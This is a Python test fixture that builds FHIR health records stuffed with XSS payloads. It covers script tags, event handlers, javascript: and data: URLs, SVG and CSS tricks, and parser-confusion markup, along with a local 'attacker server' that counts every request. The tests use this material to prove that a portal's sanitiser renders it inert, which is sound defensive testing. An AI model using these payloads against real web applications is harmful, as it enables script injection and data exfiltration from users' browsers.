"""Hostile upstream content shared by the tests that prove it ends inert (record page, viewer, PDF).

Two corpora:

- ``NARRATIVE_VECTORS``: markup for a narrative's XHTML (``text.div``);
- ``TEXT_VECTORS``: strings for plain text fields (``code.text``, ``note.text``, a Patient's name…), which
  must show as the very same characters, never as markup.

In a vector, ``{A}`` is the attacker's origin (an ``AttackerServer`` on 127.0.0.1 that counts every request),
``{N}`` the vector's number and ``{J}`` a script that would give it away: it sets ``top.__pwned`` and opens a
dialog. So a test sees any script that ran (``typeof __pwned``, a dialog) and anything that loaded (a hit on
the attacker server), and can tell which vector did it.

``hostile_record`` turns the corpora into FHIR R4 resources that are valid (every one of them must be
stored, or the test would prove nothing): one Condition per narrative vector, its narrative the vector
between two marker paragraphs (``NA007 before`` … ``NB007 after``) and its text fields text vectors between
markers (``TA007`` … ``TB007``), plus a Patient, an allergy, a medication and an observation with text
vectors in every field the portal shows.
"""

from __future__ import annotations

import http.server
import struct
import threading
import zlib
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from typing import Any

from tests.records.fake_upstream import (
    PATIENT_ID,
    PATIENT_SYSTEM,
    PATIENT_VALUE,
    Answer,
    FakeUpstream,
    searchset,
)

XHTML = "http://www.w3.org/1999/xhtml"
CONDITION_CLINICAL = "http://terminology.hl7.org/CodeSystem/condition-clinical"
# The most text the record page, the document's tables and the PDF show of one field (display.MAX_TEXT).
MAX_SHOWN_TEXT = 300


@dataclass(frozen=True)
class Vector:
    name: str
    markup: str
    # False where the vector rightly takes the rest of the narrative with it (an unclosed <plaintext>, an
    # attribute whose quote never closes): then the "after" marker may be gone, the "before" one never.
    keeps_rest: bool = True

    def render(self, attacker: str, number: int) -> str:
        return fill(self.markup, attacker, number)


def script_for(number: int) -> str:
    """What a vector runs if it gets to run: sets top.__pwned and opens a dialog."""
    return f"top.__pwned={number};alert({number})"


def fill(template: str, attacker: str, number: int) -> str:
    return (
        template.replace("{J}", script_for(number)).replace("{A}", attacker).replace("{N}", f"{number:03d}")
    )


# A data: URL of an SVG document with an onload handler.
_SVG_ONLOAD = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0idG9wLl9fcHduZWQ9MSI+PC9zdmc+"
_HTML_SCRIPT = "PHNjcmlwdD50b3AuX19wd25lZD0xPC9zY3JpcHQ+"  # <script>top.__pwned=1</script>

NARRATIVE_VECTORS: tuple[Vector, ...] = (
    # scripts
    Vector("script", "<script>{J}</script>"),
    Vector("script-src", '<script src="{A}/n{N}.js"></script>'),
    Vector("script-upper-case", "<SCRIPT>{J}</SCRIPT>"),
    Vector("script-split", "<scr<script>ipt>{J}</scr</script>ipt>"),
    Vector("script-namespaced", f'<x:script xmlns:x="{XHTML}">{{J}}</x:script>'),
    Vector("script-in-title", '<span title="&quot;&gt;&lt;script&gt;{J}&lt;/script&gt;">t</span>'),
    # event handlers
    Vector("img-onerror", '<img src="{A}/n{N}.png" onerror="{J}">'),
    Vector("img-onerror-mixed-case", "<IMG SRC=x OnErRoR={J}>"),
    Vector("img-onerror-newline", "<img src=x onerror\n={J}>"),
    Vector("body-onload", '<body onload="{J}">body</body>'),
    Vector("handlers-on-text", '<p onmouseover="{J}" onclick="{J}" onfocus="{J}" tabindex="0">hover</p>'),
    Vector("details-ontoggle", '<details open="" ontoggle="{J}"><summary>s</summary>d</details>'),
    Vector("input-autofocus", '<input autofocus="" onfocus="{J}">'),
    Vector("marquee-onstart", '<marquee onstart="{J}">m</marquee>'),
    Vector("video-source-onerror", '<video><source onerror="{J}" src="{A}/n{N}.mp4"></video>'),
    # images and media that would load
    Vector("img-lazy", '<img loading="lazy" src="{A}/n{N}-lazy.png">'),
    Vector("img-srcset", '<img srcset="{A}/n{N}-srcset.png 1x">'),
    Vector("img-data-svg", f'<img src="data:image/svg+xml;base64,{_SVG_ONLOAD}">'),
    Vector("input-image", '<input type="image" src="{A}/n{N}-input.png">'),
    Vector("audio-autoplay", '<audio autoplay="" src="{A}/n{N}.mp3"></audio>'),
    Vector("table-background", '<table background="{A}/n{N}-table.png"><tr><td>cell</td></tr></table>'),
    # SVG and MathML
    Vector("svg-onload", '<svg onload="{J}"><circle r="1"/></svg>'),
    Vector("svg-script", "<svg><script>{J}</script></svg>"),
    Vector("svg-image", '<svg><image href="{A}/n{N}-svg.png"/></svg>'),
    Vector("svg-animate", '<svg><animate onbegin="{J}" attributeName="x" dur="1s"/></svg>'),
    Vector("svg-xlink", '<svg><a xlink:href="javascript:{J}"><text y="10">x</text></a></svg>'),
    Vector("svg-style-import", "<svg><style>@import '{A}/n{N}-svg.css';</style></svg>"),
    Vector("math-href", '<math href="javascript:{J}">m</math>'),
    Vector(
        "math-mglyph-style", "<math><mtext><table><mglyph><style><img src=x onerror={J}>", keeps_rest=False
    ),
    # URLs: javascript:, data:, vbscript:, encoded and mixed case
    Vector("href-javascript", '<a href="javascript:{J}">j</a>'),
    Vector("href-mixed-case", '<a href="JaVaScRiPt:{J}">j</a>'),
    Vector("href-tab-entity", '<a href="jav&#x09;ascript:{J}">j</a>'),
    Vector("href-newline-entity", '<a href="jav&NewLine;ascript:{J}">j</a>'),
    Vector(
        "href-decimal-entities",
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{J}">j</a>',
    ),
    Vector("href-hex-entities-colon", '<a href="&#x6A;avascript&colon;{J}">j</a>'),
    Vector("href-padded-entities", '<a href="&#0000106&#0000097vascript:{J}">j</a>'),
    Vector("href-control-characters", '<a href=" \x01javascript:{J}">j</a>'),
    Vector("href-vbscript", '<a href="vbscript:msgbox({N})">v</a>'),
    Vector("href-data-html", f'<a href="data:text/html;base64,{_HTML_SCRIPT}">d</a>'),
    Vector("href-ping", '<a href="https://example.org/" ping="{A}/n{N}-ping">p</a>'),
    # frames, plugins, forms, document-level elements
    Vector("iframe-src", '<iframe src="{A}/n{N}.html"></iframe>'),
    Vector("iframe-javascript", '<iframe src="javascript:{J}"></iframe>'),
    Vector("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;{J}&lt;/script&gt;"></iframe>'),
    Vector("object", '<object data="{A}/n{N}.swf"></object>'),
    Vector("object-javascript", '<object data="javascript:{J}"></object>'),
    Vector("embed", '<embed src="{A}/n{N}-embed.swf">'),
    Vector(
        "form",
        '<form action="{A}/n{N}-form"><input name="q" value="x">'
        '<button formaction="javascript:{J}">go</button></form>',
    ),
    Vector("meta-refresh", '<meta http-equiv="refresh" content="0;url={A}/n{N}-meta">'),
    Vector("base-href", '<base href="{A}/n{N}-base/"><a href="relative">r</a>'),
    Vector("link-stylesheet", '<link rel="stylesheet" href="{A}/n{N}.css">'),
    Vector("link-prefetch", '<link rel="prefetch" href="{A}/n{N}-prefetch">'),
    # CSS
    Vector("style-attribute-url", '<p style="background:url({A}/n{N}-attr.png)">styled</p>'),
    Vector("style-attribute-escaped", '<p style="background:u\\72l({A}/n{N}-escaped.png)">styled</p>'),
    Vector("style-element-url", "<style>p{background:url({A}/n{N}-style.png)}</style>"),
    Vector("style-import", '<style>@import url("{A}/n{N}-import.css");</style>'),
    Vector("style-cover", '<div style="position:fixed;inset:0;background:red">cover</div>'),
    # parser tricks: comments, CDATA, raw text elements, entities, unclosed and stray tags
    Vector("comment", "<!-- <script>{J}</script> -->"),
    Vector("comment-early-end", "<!--><img src=x onerror={J}>-->"),
    Vector("conditional-comment", "<!--[if IE]><script>{J}</script><![endif]-->"),
    Vector("cdata", "<![CDATA[<script>{J}</script>]]>"),
    Vector("cdata-in-svg", "<svg><![CDATA[</svg><img src=x onerror={J}>]]></svg>"),
    # The viewer's DOMPurify drops the rest of the narrative after this one (nh3 keeps it).
    Vector(
        "noscript", '<noscript><p title="</noscript><img src=x onerror={J}>"></noscript>', keeps_rest=False
    ),
    Vector("template", "<template><script>{J}</script></template>"),
    Vector("textarea", "<textarea><img src=x onerror={J}></textarea>"),
    Vector("xmp", "<xmp><img src=x onerror={J}></xmp>"),
    Vector("entities-stay-text", "&lt;script&gt;{J}&lt;/script&gt;"),
    Vector("double-encoded", "&amp;lt;img src=x onerror={J}&amp;gt;"),
    Vector("ids-classes-names", '<p id="main" class="yellow-button" name="__pwned">clash</p>'),
    Vector("unclosed-tags", "<p><b><i><a href=javascript:{J}>unclosed"),
    Vector("unclosed-attribute", '<img src="{A}/n{N}-open.png onerror="{J}', keeps_rest=False),
    Vector("stray-end-tags", "</p></div></details></li></ul></main><script>{J}</script>"),
    Vector("plaintext", "<plaintext><script>{J}</script>", keeps_rest=False),
)

TEXT_VECTORS: tuple[str, ...] = (
    "<script>{J}</script>",
    '<img src="{A}/t{N}.png" onerror="{J}">',
    '"><svg onload={J}>',
    "'><iframe src={A}/t{N}.html>",
    "javascript:{J}",
    "</td></tr></table></div></details><h1>big</h1>",
    "</style><style>@import '{A}/t{N}.css';</style>",
    "</title></textarea><script>{J}</script>",
    "&lt;b&gt;not bold&lt;/b&gt; &amp;amp; &#60;i&#62;",
    "{{ request.user.email }} {% now 'Y' %} ${7*7} #{7*7}",
    "<!-- ]]> <![CDATA[ -->",
    '<a href="javascript:{J}">link</a>',
    '<meta http-equiv="refresh" content="0;url={A}/t{N}">',
    "url({A}/t{N}.png) @import '{A}/t{N}.css';",
    '<base href="{A}/t{N}/"><link rel=stylesheet href=x.css>',
    '\\" } </style> { content: url({A}/t{N}.png) }',
)


def narrative_markers(number: int) -> tuple[str, str]:
    return f"NA{number:03d}", f"NB{number:03d}"


def text_markers(number: int) -> tuple[str, str]:
    return f"TA{number:03d}", f"TB{number:03d}"


def text_vector(attacker: str, number: int, offset: int = 0) -> str:
    return fill(TEXT_VECTORS[(number + offset) % len(TEXT_VECTORS)], attacker, number)


def marked_text(attacker: str, number: int) -> str:
    """A text vector between the item's two text markers: what a Condition's code.text holds."""
    start, end = text_markers(number)
    return f"{start} {text_vector(attacker, number)} {end}"


def narrative_div(attacker: str, number: int, vector: Vector) -> str:
    before, after = narrative_markers(number)
    payload = vector.render(attacker, number)
    return f'<div xmlns="{XHTML}"><p>{before} before</p>{payload}<p>{after} after</p></div>'


def hostile_patient(attacker: str) -> dict[str, Any]:
    return {
        "resourceType": "Patient",
        "id": PATIENT_ID,
        "identifier": [{"system": PATIENT_SYSTEM, "value": PATIENT_VALUE}],
        "name": [{"text": patient_name(attacker), "family": text_vector(attacker, 0), "given": ["Eve"]}],
        "birthDate": "1970-01-01",
        "gender": "female",
    }


def patient_name(attacker: str) -> str:
    return fill('Eve "} </style><script>{J}</script><img src={A}/patient.png> Mallory', attacker, 0)


def _subject() -> dict[str, str]:
    return {"reference": f"Patient/{PATIENT_ID}"}


def hostile_conditions(attacker: str) -> list[dict[str, Any]]:
    conditions = []
    for number, vector in enumerate(NARRATIVE_VECTORS, start=1):
        conditions.append(
            {
                "resourceType": "Condition",
                "id": f"hostile-{number:03d}",
                "text": {"status": "generated", "div": narrative_div(attacker, number, vector)},
                "clinicalStatus": {"coding": [{"system": CONDITION_CLINICAL, "code": "active"}]},
                "code": {"text": marked_text(attacker, number)},
                "severity": {"text": text_vector(attacker, number, 1)},
                "bodySite": [{"text": text_vector(attacker, number, 2)}],
                "subject": _subject(),
                "onsetString": text_vector(attacker, number, 3),
                "note": [{"text": text_vector(attacker, number, 4)}],
            }
        )
    return conditions


def hostile_others(attacker: str) -> dict[str, list[dict[str, Any]]]:
    """An allergy, a medication statement and an observation, by type, with text vectors where shown."""
    base = len(NARRATIVE_VECTORS) + 1
    return {
        "AllergyIntolerance": [
            {
                "resourceType": "AllergyIntolerance",
                "id": "hostile-allergy",
                "code": {"text": marked_text(attacker, base)},
                "patient": _subject(),
                "reaction": [{"manifestation": [{"text": text_vector(attacker, base, 1)}]}],
                "note": [{"text": text_vector(attacker, base, 2)}],
            }
        ],
        "MedicationStatement": [
            {
                "resourceType": "MedicationStatement",
                "id": "hostile-medication",
                "status": "active",
                "medicationCodeableConcept": {"text": marked_text(attacker, base + 1)},
                "subject": _subject(),
                "dosage": [{"text": text_vector(attacker, base + 1, 1)}],
            }
        ],
        "Observation": [
            {
                "resourceType": "Observation",
                "id": "hostile-observation",
                "status": "final",
                "code": {"text": marked_text(attacker, base + 2)},
                "subject": _subject(),
                "effectiveDateTime": "2024-05-01",
                "valueString": text_vector(attacker, base + 2, 1),
            }
        ],
    }


def serve_hostile_record(upstream: FakeUpstream, attacker: str) -> int:
    """Script the upstream to answer the pull's searches with the hostile record; returns how many
    resources it holds (all of them valid FHIR R4, so all must be stored)."""
    upstream.routes["GET /fhir/Patient"] = Answer(body=searchset([hostile_patient(attacker)]))
    conditions = hostile_conditions(attacker)
    upstream.routes["GET /fhir/Condition"] = Answer(body=searchset(conditions))
    others = hostile_others(attacker)
    for resource_type, resources in others.items():
        upstream.routes[f"GET /fhir/{resource_type}"] = Answer(body=searchset(resources))
    return 1 + len(conditions) + sum(len(resources) for resources in others.values())


def marked_numbers() -> list[int]:
    """The numbers whose code.text (or medication) carries text markers: every item of the record."""
    return list(range(1, len(NARRATIVE_VECTORS) + 4))


def foreign_document(attacker: str) -> dict[str, Any]:
    """Another party's IPS document (as a foreign SHL server hands it over): the narrative corpus in its
    section narratives, text vectors in its titles and the Patient's name. Nothing in it was sanitised."""
    sections = [
        {
            "title": f"{narrative_markers(number)[0]} {text_vector(attacker, number)}",
            "code": {"coding": [{"system": "http://loinc.org", "code": f"hostile-{number:03d}"}]},
            "text": {"status": "generated", "div": narrative_div(attacker, number, vector)},
        }
        for number, vector in enumerate(NARRATIVE_VECTORS, start=1)
    ]
    composition = {
        "resourceType": "Composition",
        "id": "c",
        "status": "final",
        "type": {"coding": [{"system": "http://loinc.org", "code": "60591-5"}]},
        "subject": {"reference": "Patient/p"},
        "date": "2025-01-01",
        "title": fill("Summary <script>{J}</script><img src={A}/title.png>", attacker, 0),
        "section": sections,
    }
    patient = {**hostile_patient(attacker), "id": "p"}
    return {
        "resourceType": "Bundle",
        "type": "document",
        "entry": [
            {"fullUrl": "urn:uuid:c", "resource": composition},
            {"fullUrl": "urn:uuid:p", "resource": patient},
        ],
    }


# ---------------------------------------------------------------------------- the attacker's server


def png_pixel() -> bytes:
    """A valid 1x1 PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00")
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


class AttackerServer(http.server.ThreadingHTTPServer):
    """Counts every request and answers what would make an attack worse: a PNG, CSS that loads more, a
    script, or a page with a script."""

    daemon_threads = True
    hits: list[str]

    @property
    def origin(self) -> str:
        host, port = self.server_address[:2]
        return f"http://{host!s}:{port}"


class _AttackerHandler(http.server.BaseHTTPRequestHandler):
    server: AttackerServer

    def _answer(self) -> None:
        self.server.hits.append(f"{self.command} {self.path}")
        path = self.path.split("?", 1)[0]
        if path.endswith(".css"):
            body, kind = f"body{{background:url({self.server.origin}/from-css.png)}}".encode(), "text/css"
        elif path.endswith(".js"):
            body, kind = b"top.__pwned='remote script';alert('remote script')", "text/javascript"
        elif path.endswith((".png", ".svg")):
            body, kind = png_pixel(), "image/png"
        else:
            body, kind = b"<script>top.__pwned='remote page';alert('remote page')</script>", "text/html"
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()
        self.wfile.write(body)

    do_GET = do_POST = do_HEAD = _answer

    def log_message(self, format: str, *args: Any) -> None:
        pass


@contextmanager
def attacker_server() -> Iterator[AttackerServer]:
    server = AttackerServer(("127.0.0.1", 0), _AttackerHandler)
    server.hits = []
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=5)
